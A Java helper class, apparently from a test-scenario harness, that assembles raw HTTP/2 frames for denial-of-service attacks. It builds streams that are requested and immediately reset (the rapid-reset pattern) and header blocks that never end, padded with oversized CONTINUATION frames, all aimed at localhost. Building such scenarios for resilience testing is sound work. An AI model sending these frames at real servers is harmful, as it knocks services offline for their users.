package org.strowger.scenarios.product;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/** Frames of HTTP/2 (RFC 9113), as few as an attacker needs. */
public final class Http2 {
    private static final int HEADERS = 1;
    private static final int RESET = 3;
    private static final int SETTINGS = 4;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM_AND_HEADERS = 5;
    private static final int CANCEL = 8;

    private Http2() {}

    /** What a client begins with. */
    public static byte[] preface() {
        return joined("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII), frame(SETTINGS, 0, 0));
    }

    /** A request for the root, and that nobody wants it any more. */
    public static byte[] askedAndReset(int stream) {
        return joined(
                frame(HEADERS, END_STREAM_AND_HEADERS, stream, request()),
                frame(RESET, 0, stream, ByteBuffer.allocate(4).putInt(CANCEL).array()));
    }

    /** A request whose head does not end. */
    public static byte[] endless() {
        return frame(HEADERS, 1, 1, request());
    }

    /** More of that head: a name and a value that are not to be remembered. */
    public static byte[] more() {
        byte[] header = joined(new byte[] {0x00, 0x01, 'x', 0x7f, (byte) 0x81, 0x7c}, new byte[16_000]);
        return frame(CONTINUATION, 0, 1, header);
    }

    /** GET, https, the root, and a host; names by their place in the static table. */
    private static byte[] request() {
        return joined(
                new byte[] {(byte) 0x82, (byte) 0x87, (byte) 0x84, 0x01, 9},
                "127.0.0.1".getBytes(StandardCharsets.US_ASCII));
    }

    private static byte[] frame(int type, int flags, int stream, byte... payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .put((byte) (payload.length >> 16))
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }

    private static byte[] joined(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }
}
